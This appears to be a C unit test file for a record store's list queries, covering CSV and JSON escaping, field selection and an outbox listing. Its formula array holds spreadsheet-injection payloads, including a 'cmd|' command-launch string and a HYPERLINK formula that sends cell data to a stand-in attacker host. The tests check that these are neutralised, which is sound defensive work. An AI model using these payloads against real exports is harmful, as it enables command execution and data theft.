#include "outbox/outbox.h"
#include "query_fixture.h"

/* Formulas as spreadsheets know them: the shapes of the adversarial file C025. */
static const char *const formulas[] = {
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)*cmd",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=HYPERLINK(\"http://evil.example.test/?x=\"&A1,\"ok\")",
};

static tend_status ask_list(const tend_query *query, tend_result *result, tend_error *reterr)
{
    const tend_list_options options = { .fields = "name" };

    return tend_query_list(query, TEND_KIND_ACCOUNT, &options, result, reterr);
}

START_TEST(a_cell_that_a_spreadsheet_would_run_is_neutralised)
{
    const char *formula = formulas[_i];
    tend_query query;
    const char *cell;
    tend_buffer wanted = { 0 };

    add_account(&f, formula);
    query = query_of(0);
    query_answer(&query, tend_result_csv, ask_list);
    tend_buffer_text(&wanted, "id,name\n1,\"'");
    for (cell = formula; *cell; cell++) {
        if (*cell == '"')
            tend_buffer_byte(&wanted, '"');
        tend_buffer_byte(&wanted, *cell);
    }
    tend_buffer_text(&wanted, "\"\n");
    ck_assert_str_eq(answer, tend_buffer_string(&wanted));
    tend_buffer_clear(&wanted);
}
END_TEST

START_TEST(numbers_below_zero_are_no_formulas)
{
    tend_query query;
    int64_t account = add_account(&f, "Acme");

    TEST_PUT(&f, .kind = TEND_KIND_ACCOUNT, .id = account,
             .fields = { { "currency", text("USD") }, { "revenue", money(-150, "USD") } });
    query = query_of(0);
    {
        const tend_list_options options = { .fields = "revenue" };
        size_t length = 0;
        char *csv = NULL;
        FILE *out = open_memstream(&csv, &length);
        tend_result *result = tend_result_csv(out);

        TEST_OK(&f, tend_query_list(&query, TEND_KIND_ACCOUNT, &options, result, &f.error));
        TEST_OK(&f, result->end(result, &f.error));
        result->free(result);
        (void)fclose(out);
        ck_assert_str_eq(csv, "id,revenue,revenue_currency\n1,-1.50,USD\n");
        free(csv);
    }
}
END_TEST

START_TEST(a_list_has_stable_keys_and_escapes_what_texts_hold)
{
    tend_query query;

    add_account(&f, "a \"b\" \\ </script>\u2028");
    query = query_of(0);
    query_answer(&query, tend_result_json, ask_list);
    ck_assert_str_eq(answer, "{\"accounts\":[{\"id\":1,\"name\":\"a \\\"b\\\" \\\\ </script>\u2028\"}]}");
}
END_TEST

static const char *wanted_fields;

static tend_status ask_fields(const tend_query *query, tend_result *result, tend_error *reterr)
{
    const tend_list_options options = { .fields = wanted_fields };

    return tend_query_list(query, TEND_KIND_ACCOUNT, &options, result, reterr);
}

/* Of every row the number stands first, so that it can be asked for alone. */
START_TEST(the_number_of_a_row_is_a_field_that_can_be_asked_for)
{
    static const char *const asked[] = { "id", "id,name", "name,id" };
    tend_query query;

    add_account(&f, "Acme");
    for (size_t i = 0; i < 3; i++) {
        wanted_fields = asked[i];
        query = query_of(0);
        query_answer(&query, tend_result_json, ask_fields);
        ck_assert_str_eq(answer, i == 0 ? "{\"accounts\":[{\"id\":1}]}" : "{\"accounts\":[{\"id\":1,\"name\":\"Acme\"}]}");
    }
}
END_TEST

static bool wants_all;

static tend_status ask_outbox(const tend_query *query, tend_result *result, tend_error *reterr)
{
    return tend_query_outbox(query, wants_all, 0, result, reterr);
}

START_TEST(messages_that_have_left_are_listed_when_asked_for)
{
    const tend_outbox_draft draft = {
        .once_key = "k1", .channel = "mail", .to = "kim@example.test", .subject = "Hello", .not_before = TEND_NO_TIME
    };
    int64_t id = 0;
    tend_query query = query_of(0);

    ck_assert_str_eq(query_answer(&query, tend_result_json, ask_outbox), "{\"messages\":[]}"); /* a store from before the outbox */
    TEST_OK(&f, tend_outbox_prepare(f.store, &f.error));
    begin(&f);
    TEST_OK(&f, tend_outbox_add(f.model, &f.origin, &draft, &id, NULL, &f.error));
    commit(&f);
    HAS(query_answer(&query, tend_result_json, ask_outbox),
        "\"to\":\"kim@example.test\",\"subject\":\"Hello\",\"state\":\"waiting\"");
    begin(&f);
    TEST_OK(&f, tend_store_run(f.store, "UPDATE outbox SET state = 'sent'", &f.error));
    commit(&f);
    ck_assert_str_eq(query_answer(&query, tend_result_json, ask_outbox), "{\"messages\":[]}");
    wants_all = true;
    HAS(query_answer(&query, tend_result_json, ask_outbox), "\"state\":\"sent\"");
}
END_TEST

TESTS_WITH("query/list", {
    tcase_add_checked_fixture(tcase, query_setup, query_teardown);
    tcase_add_loop_test(tcase, a_cell_that_a_spreadsheet_would_run_is_neutralised, 0, sizeof formulas / sizeof *formulas);
    tcase_add_test(tcase, numbers_below_zero_are_no_formulas);
    tcase_add_test(tcase, messages_that_have_left_are_listed_when_asked_for);
    tcase_add_test(tcase, a_list_has_stable_keys_and_escapes_what_texts_hold);
    tcase_add_test(tcase, the_number_of_a_row_is_a_field_that_can_be_asked_for);
})
